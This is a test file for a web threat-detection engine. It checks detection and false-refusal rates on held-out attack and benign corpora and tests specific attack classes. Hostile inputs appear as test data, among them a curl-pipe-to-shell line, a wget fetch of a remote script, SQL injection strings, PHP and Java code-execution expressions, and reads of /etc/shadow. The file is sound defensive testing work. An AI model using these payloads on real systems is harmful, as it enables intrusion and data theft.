/**
 * The held-out sets (test/fixtures/heldout/, provenance in its README). Set A: benign text nobody wrote
 * as a test, the README and CHANGELOG prose, code blocks and descriptions of the packages in
 * node_modules, sent as query values and JSON bodies, and public attack lists the external corpus did
 * not sample. Set B: SecLists and payloadbox lists, the packages' other Markdown docs and doc comments,
 * and crawler user agents, split by a hash into a dev half (where classes are looked for) and a test
 * half (only counted). Set C: HttpParamsDataset's form values and attacks, PayloadsAllTheThings'
 * command list, XSS lists (PortSwigger's cheat sheet, BruteLogic's), SecLists' login-bypass SQL and
 * Windows file list, split the same way. Set D: lists none of the others use (payloadbox's XSS, quick and
 * sqlmap SQL, SSRF, RFI, SSI, Linux files), browser user agents, GitHub webhook bodies and generated
 * form values, split the same way. Set E: GoTestWAF's and waf-bypass's own cases, sent where each says, and the
 * Big List of Naughty Strings, split the same way. Set F: nuclei's DAST templates sent where their fuzzing rules
 * put them, and DOMPurify's and bleach's test inputs, split the same way. Set G: benign traffic only (an access log replayed, user
 * agents, cookies, Japanese and Russian interface text, CSS, Markdown and the HTML it renders), split the same
 * way. They measure whether the engine generalises beyond the corpora its rules were
 * tuned on: no rule is written from their lines, and the ceilings and floors only keep a change from
 * doing worse than `bench/detection-heldout.ts` measured. Tighten them when the engine gets better;
 * never loosen them to let a change through.
 */
import { describe, expect, it } from "@effect/vitest"
import { Effect } from "effect"
import { ThreatDetector } from "../../src/ThreatDetector.js"
import { bodyOf } from "../../src/internal/scanBody.js"
import { type HeldoutBRow, loadHeldout, loadHeldoutB, loadHeldoutC, loadHeldoutD, loadHeldoutE, loadHeldoutF, loadHeldoutG } from "../fixtures/heldout/heldout.js"
import { rate, runCorpus, sumTallies } from "./externalCorpus.js"
import { expectVerdicts } from "./harness.js"

/**
 * Held-out benign rows refused at the default level: measured 0.010 (25/2473), after type arguments
 * (`Promise<object>`), relative paths (`@scope/base64`), inline code beside abbreviations, Markdown
 * links before `;` and relative globs stopped reading as tags, commands and PHP calls (0.013 before).
 */
const HELDOUT_REFUSED_CEILING = 0.011
/**
 * Held-out attack rows caught at the default level: measured 0.969 (314/324). The misses of fuzzdb's
 * SQL, command and LDAP lists showed classes the rules lacked (docs/detection.md); those classes were
 * written from their own variants, so this floor keeps them, not the lines.
 */
const HELDOUT_RECALL_FLOOR = 0.96

/**
 * Sets B and C at the default level, per half: attack recall floor and benign refused ceiling. Set B
 * measured: dev 0.985 (323/328) and 0.003 (2/715); test 0.967 (351/363) and 0.010 (7/674). Set C
 * measured: dev 0.997 (580/582) and 0.000 (0/174); test 0.987 (517/524) and 0.000 (0/185); before the
 * classes its dev half showed (database server files by drive paths with blanks, PHP's `${@call()}`,
 * a full-text search's string closed with its mode) 0.933 and 0.939. The dev
 * half is where classes are looked for; the test half is only counted, so its failure message names
 * no row. `size` is the least number of attack and benign rows a half holds.
 *
 * Set D measured: dev 0.969 (317/327) and 0.000 (0/331); test 0.966 (314/325) and 0.003 (1/288); at
 * eb5bd00, before the classes its dev half and the webhook examples outside it showed (sqlmap's ELT,
 * MAKE_SET and counted comparisons, dialogs reached by indirection, ?-cut avatar URLs, diff hunks, a
 * password's `@{`), 0.948 and 0.957 recall, 1/331 and 3/288 refused.
 *
 * Set E measured (halves by payload): dev 0.923 (397/430) and 0.000 (0/222); test 0.892 (429/481) and
 * 0.000 (0/270), mail session commands counted at paranoia level 2 (a helpdesk message ends with `QUIT`). With halves by place and payload (copies of a payload in both halves): dev 0.925 and
 * test 0.924, 0/238 and 0/254 refused; before
 * the classes its dev half showed (dialogs called through `call`/`apply`/`?.(`, SQL in a bracketed
 * parameter's index, an injection cut at its `=` into a query parameter's name and value, scanners'
 * own user agents, mail session commands, here-strings into the shell, Java expressions reaching a
 * class loader, a word between Unicode paragraph separators read as a command line) 0.872 and 0.869
 * recall, 1/238 and 1/254 refused. After the classes its dev half still missed (SQL words split by an
 * empty tag or a join of literals, statements without spaces, a quote-split system path, form fields cut
 * at their `=`, bare-LF multipart read as a lenient server does) and two readings that moved only test
 * rows (tags splitting markup's words, escaped Log4j braces): dev 0.972 (418/430), test 0.921 (443/481),
 * 0 refused. The test figure is not independent for those two shapes, so the test floor stays at 0.88,
 * the one the test half held before them.
 *
 * Set F measured at a5ff2c3, before any rule was written from it: dev 0.955 (361/378) and 0.200 (14/70); test
 * 0.974 (417/428) and 0.184 (14/76). Its benign rows are HTML fragments of comment text (bleach's and
 * DOMPurify's harmless inputs), which the engine refused one in five of. After the classes its dev half
 * showed (closed SVG and MathML islands, PowerShell's Start-Sleep after a separator, template probes that
 * compute through a filter, a quoted link's query flags): dev 0.992 (375/378) and 0.057 (4/70), test
 * 0.988 (423/428) and 0.079 (6/76).
 */
const SPLIT_SETS = {
  B: {
    load: loadHeldoutB,
    size: { attacks: 300, benign: 600 },
    dev: { recall: 0.98, refused: 0.004 },
    test: { recall: 0.96, refused: 0.011 }
  },
  C: {
    load: loadHeldoutC,
    size: { attacks: 500, benign: 150 },
    dev: { recall: 0.98, refused: 0.006 },
    test: { recall: 0.97, refused: 0.006 }
  },
  D: {
    load: loadHeldoutD,
    size: { attacks: 300, benign: 250 },
    dev: { recall: 0.96, refused: 0.002 },
    test: { recall: 0.96, refused: 0.004 }
  },
  E: {
    load: loadHeldoutE,
    size: { attacks: 400, benign: 200 },
    dev: { recall: 0.96, refused: 0.002 },
    test: { recall: 0.88, refused: 0.002 }
  },
  F: {
    load: loadHeldoutF,
    size: { attacks: 350, benign: 60 },
    dev: { recall: 0.98, refused: 0.06 },
    test: { recall: 0.98, refused: 0.08 }
  }
} as const

for (const [name, set] of Object.entries(SPLIT_SETS)) {
  describe(`held-out set ${name}`, () => {
    for (const half of ["dev", "test"] as const) {
      it.effect(`${half} half: catches at least its floor of the attacks and refuses at most its ceiling of the benign rows`, () =>
        Effect.gen(function*() {
          const detector = yield* Effect.orDie(ThreatDetector.make({ paranoia: 1 }))
          const r = yield* runCorpus(detector, set.load(half))
          const recall = sumTallies(r.recallBySource)
          const refused = sumTallies(r.refusedBySource)
          expect(recall.total).toBeGreaterThan(set.size.attacks)
          expect(refused.total).toBeGreaterThan(set.size.benign)
          const rows = (list: ReadonlyArray<{ readonly source: string; readonly id: number }>) =>
            half === "dev" ? list.slice(0, 20).map((row) => `${row.source} #${row.id}`).join("\n") : `${list.length} rows (the test half is not listed)`
          expect(rate(recall), rows(r.missed)).toBeGreaterThanOrEqual(set[half].recall)
          expect(rate(refused), rows(r.falsePositives.map((f) => f.row))).toBeLessThanOrEqual(set[half].refused)
        }), { timeout: 120_000 })
    }

    it("puts every row in one half by a hash of what it sends, both halves about the same size", () => {
      const rows: ReadonlyArray<HeldoutBRow> = set.load()
      const dev = rows.filter((row) => row.half === "dev").length
      expect(dev + rows.filter((row) => row.half === "test").length).toBe(rows.length)
      expect(Math.abs(dev / rows.length - 0.5)).toBeLessThan(0.05)
    })
  })
}

/**
 * Set G holds benign traffic only: an access log replayed with its Referers and user agents and shipped as
 * log lines, a parser's test user agents, popular sites' cookies, Japanese and Russian interface text, CSS
 * and Markdown tables with the HTML they render, each where a request carries it. Measured at a5ff2c3
 * before any rule change: dev 0.000 (0/578) and test 0.000 (0/570) refused at the default level; at level 2
 * dev 0.002 (1/578: a cookie whose quoted value holds `=` and `&`), test 0.000 (0/570).
 */
const SET_G = { size: 500, refused: { dev: 0.002, test: 0.002 } } as const

describe("held-out set G", () => {
  for (const half of ["dev", "test"] as const) {
    it.effect(`${half} half: refuses at most its ceiling of real traffic at the default level`, () =>
      Effect.gen(function*() {
        const detector = yield* Effect.orDie(ThreatDetector.make({ paranoia: 1 }))
        const r = yield* runCorpus(detector, loadHeldoutG(half))
        const refused = sumTallies(r.refusedBySource)
        expect(refused.total).toBeGreaterThan(SET_G.size)
        const rows = half === "dev"
          ? r.falsePositives.slice(0, 20).map((f) => `${f.row.source} #${f.row.id}`).join("\n")
          : `${r.falsePositives.length} rows (the test half is not listed)`
        expect(rate(refused), rows).toBeLessThanOrEqual(SET_G.refused[half])
      }), { timeout: 120_000 })
  }

  it("puts every row in one half by a hash of what it is made from, both halves about the same size", () => {
    const rows: ReadonlyArray<HeldoutBRow> = loadHeldoutG()
    const dev = rows.filter((row) => row.half === "dev").length
    expect(dev + rows.filter((row) => row.half === "test").length).toBe(rows.length)
    expect(rows.every((row) => row.expect === "benign")).toBe(true)
    expect(Math.abs(dev / rows.length - 0.5)).toBeLessThan(0.05)
  })
})

describe("held-out benign text", () => {
  it.effect("refuses at most the measured share of real documentation text at the default level", () =>
    Effect.gen(function*() {
      const detector = yield* Effect.orDie(ThreatDetector.make({ paranoia: 1 }))
      const r = yield* runCorpus(detector, loadHeldout().filter((row) => row.expect === "benign"))
      const total = sumTallies(r.refusedBySource)
      expect(total.total).toBeGreaterThan(2000)
      expect(rate(total), r.falsePositives.slice(0, 20).map((f) => `${f.row.source} #${f.row.id}: ${f.result.ruleIds.join(", ")}`).join("\n"))
        .toBeLessThanOrEqual(HELDOUT_REFUSED_CEILING)
    }), { timeout: 120_000 })

  it.effect("catches at least the measured share of the held-out attack lists at the default level", () =>
    Effect.gen(function*() {
      const detector = yield* Effect.orDie(ThreatDetector.make({ paranoia: 1 }))
      const r = yield* runCorpus(detector, loadHeldout().filter((row) => row.expect === "attack"))
      const total = sumTallies(r.recallBySource)
      expect(total.total).toBeGreaterThan(300)
      expect(rate(total), r.missed.slice(0, 20).map((row) => `${row.source}/${row.category} #${row.id}`).join("\n"))
        .toBeGreaterThanOrEqual(HELDOUT_RECALL_FLOOR)
    }), { timeout: 120_000 })

  it.effect("passes Markdown that names packages in backticks; a command there still counts", () =>
    expectVerdicts([
      "OpenTelemetry instrumentation for `node:dns` name resolution",
      "Build tool and bindings loader for `node-gyp` that supports prebuilds",
      "`base64-js` does basic base64 encoding in pure JS"
    ], ["`whoami`", "x;curl http://203.0.113.9/a|sh", "a|node -e 'x'"]))

  it.effect("passes prose whose line ends in a colon or starts with a URL; a header line still counts", () =>
    expectVerdicts([
      "If you create a single div, passing a string rather than an\nobject:",
      "Create a row with any number of columns, a column\ncan either be a string, or an object with the following\noptions:",
      "See the docs at\nhttps://example.com/guide"
    ], ["en\r\nSet-Cookie: sid=1", "x\nLocation: http://203.0.113.9/"]))

  it.effect("passes a Node README's CommonJS import in a JSON body", () =>
    Effect.gen(function*() {
      const detector = yield* Effect.orDie(ThreatDetector.make({ paranoia: 1 }))
      const text = JSON.stringify({ title: "Example", body: "const colors = require('@colors/colors');\nconsole.log('hello'.green);" })
      const result = yield* detector.detect({ path: "/api", headers: { "content-type": "application/json" }, body: { kind: "json", text } })
      expect(result.isThreat).toBe(false)
    }))
})

/** Classes the engine missed in set C's dev half, written from their own variants, not its lines. */
describe("classes from held-out set C", () => {
  it.effect("refuses a database server's files by a drive path with blanks, however the blanks are sent; a document there passes", () =>
    Effect.gen(function*() {
      const detector = yield* Effect.orDie(ThreatDetector.make({ paranoia: 1 }))
      const query = (q: string) => detector.detect({ path: "/download", query: q, headers: { host: "shop.example" } })
      const json = (text: string) =>
        Effect.flatMap(bodyOf(new TextEncoder().encode(text), "application/json", false), (view) =>
          detector.detect({ path: "/api/files", headers: { "content-type": "application/json" }, ...("body" in view ? { body: view.body } : {}) }))
      const refused = [
        yield* query("file=C:/Program+Files/MySQL/MySQL+Server+5.0/data/mysql.err"),
        yield* query("file=C%3A%5CProgram%20Files%5CMicrosoft%20SQL%20Server%5CMSSQL%5CDATA%5Cmaster.mdf"),
        yield* query("f=c:/xampp/mysql/data/mysql-bin.index"),
        yield* json(JSON.stringify({ path: "D:\\Program Files (x86)\\PostgreSQL\\12\\data\\pg_hba.conf" }))
      ]
      expect(refused.map((r) => r.isThreat)).toEqual([true, true, true, true])
      const passed = [
        yield* query("file=C:/Program+Files/Acme+Tools/readme.txt"),
        yield* query("q=where+does+mysql.err+come+from"),
        yield* json(JSON.stringify({ path: "C:\\Users\\Ann\\My Documents\\report final.docx" }))
      ]
      expect(passed.map((r) => r.isThreat)).toEqual([false, false, false])
    }))

  it.effect("refuses PHP's `${@call()}` interpolation in a query or a form body; a template literal passes", () =>
    expectVerdicts(["Total: ${format(price)}", "`/users/${encodeURIComponent(id)}`"], ["${@print(md5(1))}", "x\";${@system('id')};\""]))
})

/** Classes set D's dev half and the webhook examples outside set D showed, written from their own variants. */
describe("classes from held-out set D", () => {
  it.effect("passes a code review webhook body: an avatar URL with an empty query, a diff hunk", () =>
    Effect.gen(function*() {
      const detector = yield* Effect.orDie(ThreatDetector.make({ paranoia: 1 }))
      const text = JSON.stringify({
        action: "created",
        comment: { diff_hunk: "@@ -1 +1 @@\n-# Quick start", body: "Typo in the heading?", user: { login: "ann", avatar_url: "https://avatars.example.com/u/7?" } }
      })
      const view = yield* bodyOf(new TextEncoder().encode(text), "application/json", false)
      const result = yield* detector.detect({ path: "/hooks/review", headers: { "content-type": "application/json" }, ...("body" in view ? { body: view.body } : {}) })
      expect(result.isThreat, result.ruleIds.join(", ")).toBe(false)
    }))

  it.effect("refuses sqlmap's boolean switches and a dialog reached by indirection; their benign neighbours pass", () =>
    expectVerdicts(
      ["ELT(2, 'a', 'b')", "(x=5)*2", "promise.then(console.log)", "https://shop.example/search?"],
      ["ELT(3904=3904,1187)", "(5150=5150)*3", "[3].some(prompt)", "file=http://evil.example/inc.txt?"]
    ))
})

/** Classes set E's dev half showed, written from their own variants, not its lines. */
describe("classes from held-out set E", () => {
  const detectorAt1 = Effect.orDie(ThreatDetector.make({ paranoia: 1 }))

  it.effect("refuses a dialog called through call, apply or bind; an application's own method and an optional callback pass", () =>
    expectVerdicts(
      ["dialog.confirm.call(this, message)", "ui.prompt?.(label)", "Please confirm. Call us on 0100", "Function.prototype.call(thisArg) sets this", "confirm?.({ message: 'Remove item?' })"],
      ["confirm.call(window,'x')", "prompt.apply(0,['y'])", "alert.bind(null)(7)"]
    ))

  it.effect("refuses SQL in the index of a bracketed parameter name; nested filters and plain indexes pass", () =>
    Effect.gen(function*() {
      const detector = yield* detectorAt1
      const query = (q: string) => detector.detect({ path: "/list", query: q, headers: { host: "shop.example" } })
      const refused = [
        yield* query("user[1+;drop+table+accounts;--+]=x"),
        yield* query("ids[0)+union+select+password+from+users--+]=1")
      ]
      expect(refused.map((r) => r.isThreat)).toEqual([true, true])
      const passed = [
        yield* query("filter[price][gte]=10&sort[created_at]=desc&items[]=3"),
        yield* query("meta[last+name]=O%27Neil&tags[c%2B%2B]=1")
      ]
      expect(passed.map((r) => r.isThreat)).toEqual([false, false])
    }))

  it.effect("refuses a security scanner's own user agent; a browser's, a library's and a referer about a scanner pass", () =>
    Effect.gen(function*() {
      const detector = yield* detectorAt1
      const agent = (headers: Record<string, string>) => Effect.map(detector.detect({ path: "/", headers: { host: "shop.example", ...headers } }), (r) => r.isThreat)
      for (const ua of ["Nikto/2.5.0", "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None)", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", "sqlmap/1.8.2#stable (https://sqlmap.org)"]) {
        expect(yield* agent({ "user-agent": ua }), ua).toBe(true)
      }
      for (const headers of [
        { "user-agent": "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15" },
        { "user-agent": "python-requests/2.32.3" },
        { "user-agent": "Go-http-client/2.0" },
        { referer: "https://github.com/projectdiscovery/nuclei-templates" },
        { referer: "nuclei/3.1 templates" },
        { "accept-language": "sqlmap" }
      ]) {
        expect(yield* agent(headers), JSON.stringify(headers)).toBe(false)
      }
      // the user agent is read even after the same text passed in another header
      expect(yield* agent({ referer: "nuclei/3.1 templates", "user-agent": "nuclei/3.1 templates" })).toBe(true)
    }))

  it.effect("passes a message that ends with a line saying QUIT at the default level", () =>
    expectVerdicts(["Thanks!\nQUIT\n", "Hi,\r\nList 2 sizes please\r\nSelect one of A2 or B3", "Mail from: the front desk\nRcpt to: all staff"], []))

  it.effect("refuses a Java expression that reaches a class loader; a template reading a property passes", () =>
    expectVerdicts(["Hello ${user.name}", "`${item.getClassName()}`"], ["${''.getClass().getClassLoader()}", "${class.getClassLoader().loadClass('x')}"]))

  it.effect("refuses an injection cut at its `=` into a parameter's name and value; names with dots, brackets and underscores pass", () =>
    Effect.gen(function*() {
      const detector = yield* detectorAt1
      const query = (q: string) => detector.detect({ path: "/search", query: q, headers: { host: "shop.example" } })
      expect((yield* query("bob%27%20OR%20%27x%27=%27x")).isThreat).toBe(true)
      expect((yield* query("1%20union%20select%20name%20from%20users%20where%20id=2")).isThreat).toBe(true)
      expect((yield* query("utm_source=news&user.name=Ann&filter[size]=M&page=2")).isThreat).toBe(false)
      expect((yield* query("O%27Brien%20family=reunion%202024")).isThreat).toBe(false)
    }))

  it.effect("refuses an injection cut at its `=` after a name made of comments; names with colons and hyphens pass", () =>
    Effect.gen(function*() {
      const detector = yield* detectorAt1
      const query = (q: string) => detector.detect({ path: "/search", query: q, headers: { host: "shop.example" } })
      expect((yield* query("7/**/or/**/2=2")).isThreat).toBe(true)
      expect((yield* query("ns:lang=en&x-trace-id=ab12&v1.2=ok")).isThreat).toBe(false)
    }))

  it.effect("reads a form body's field cut at its `=` as a query parameter is; a body sent quoted by mistake passes", () =>
    Effect.gen(function*() {
      const detector = yield* detectorAt1
      const form = (text: string) => Effect.map(detector.detect({ path: "/submit", body: { kind: "form", text } }), (r) => r.isThreat)
      expect(yield* form("3/**/or/**/5=5&page=1")).toBe(true)
      expect(yield* form("nick%27%20OR%20%27q%27=%27q")).toBe(true)
      expect(yield* form("\"note=see a = b, then c\"")).toBe(false)
      expect(yield* form("'comment=x = y'&lang=en")).toBe(false)
      expect(yield* form("user.name=Ann&filter[size]=M&ns:lang=en")).toBe(false)
    }))

  it.effect("reads the rest of a bracketed name past its eighth index as one value", () =>
    Effect.gen(function*() {
      const detector = yield* detectorAt1
      const padded = "a[1][2][3][4][5][6][7][8]"
      const r = yield* detector.detect({ path: "/list", query: `${padded}[0+union+select+password+from+users--+]=1`, headers: { host: "shop.example" } })
      expect(r.isThreat).toBe(true)
      expect((yield* detector.detect({ path: "/list", query: `${padded}[9][10]=1`, headers: { host: "shop.example" } })).isThreat).toBe(false)
    }))

  it.effect("splits a bracketed cookie name into its indexes; a plain bracketed cookie passes", () =>
    Effect.gen(function*() {
      const detector = yield* detectorAt1
      const cookie = (c: string) => Effect.map(detector.detect({ path: "/", headers: { host: "shop.example", cookie: c } }), (r) => r.isThreat)
      expect(yield* cookie("prefs[1;drop table accounts;--]=x")).toBe(true)
      expect(yield* cookie("prefs[theme]=dark; cart[items][0]=12")).toBe(false)
    }))

  it.effect("refuses a here-string fed to the shell itself; one fed to another program passes", () =>
    expectVerdicts(["read a b <<< \"$pair\"", "the <<< operator feeds a string to stdin"], ["$0<<<$'\\x69\\x64'", "${0}<<<'uname -a'", "x|sh <<< \"$(printf id)\""]))

  it.effect("passes a word between Unicode paragraph separators, which no shell reads as lines; a command after a line break still counts", () =>
    Effect.gen(function*() {
      const detector = yield* detectorAt1
      const json = (text: string) =>
        Effect.flatMap(bodyOf(new TextEncoder().encode(text), "application/json", false), (view) =>
          detector.detect({ path: "/api/notes", headers: { "content-type": "application/json" }, ...("body" in view ? { body: view.body } : {}) }))
      expect((yield* json(JSON.stringify({ note: "\u2029 test \u2029" }))).isThreat).toBe(false)
      expect((yield* json(JSON.stringify({ note: "\ntime\n" }))).isThreat).toBe(false)
      expect((yield* json(JSON.stringify({ note: "\nwhoami" }))).isThreat).toBe(true)
    }))
})

/** Classes set F's dev half showed, written from their own variants, not its lines. */
describe("classes from held-out set F", () => {
  it.effect("passes a closed SVG icon or MathML formula; an island left open or holding more than a picture still counts", () =>
    expectVerdicts(
      [
        "<svg viewBox=\"0 0 24 24\" width=\"16\"><path d=\"M12 2 2 7l10 5 10-5z\"/><circle cx=\"12\" cy=\"18\" r=\"2\"/></svg>",
        "<svg><use xlink:href=\"#icon-cart\"></use></svg> Cart (2)",
        "<math><mfrac><mn>1</mn><msqrt><mi>x</mi></msqrt></mfrac></math> is the answer",
        "<svg><linearGradient id=\"g\"><stop offset=\"0\"/></linearGradient><text x=\"4\">Sale</text></svg>"
      ],
      [
        "<math><mtext><table><mglyph><style><!--</style>",
        "<svg><p><style><a title=\"</style>\">",
        "<svg><a xlink:href=\"https://login.example.net/\"><text>Sign in</text></a></svg>",
        "<svg><image href=\"https://203.0.113.9/x.svg\"/></svg>",
        "<math display=\"block\"><mi>x</mi>"
      ]
    ))

  it.effect("refuses PowerShell's Start-Sleep after a separator, as sleep; a sentence naming the cmdlet passes", () =>
    expectVerdicts(
      ["Use Start-Sleep -Seconds 2 between retries", "bedtime; start-sleep routine for toddlers"],
      ["7; Start-Sleep -Milliseconds 9000", "id|start-sleep 20"]
    ))

  it.effect("refuses a template expression that computes on numbers through a filter or a printing tag; filters on variables pass", () =>
    expectVerdicts(
      ["{{ price | times: 2 }}", "{{ value|add:\"2\" }}", "{math equation=\"x*y\" x=3 y=4}", "{% raw %}{{ name }}{% endraw %}"],
      ["{{ 3 | plus: 4 }}", "{{12|add:\"30\"}}", "{%- print 6*6 -%}", "{math equation=\"9+9\"}"]
    ))

  it.effect("passes an HTML link whose query has a flag named like a command; a command in a link with a shell's own characters still counts", () =>
    expectVerdicts(
      ["<a href=\"/search?q=boots&amp;sort\">next page</a>", "see <a href='/docs?v=2&more'>the docs</a>", "<img src=\"/thumb?w=3&head\">"],
      ["<a href=\"/files?name=a;id\">x</a>", "x\" href=\"/a?b=1&wget http://203.0.113.9/x.sh\">", "<a href=\"/a\">b</a>&&cat /etc/shadow"]
    ))
})
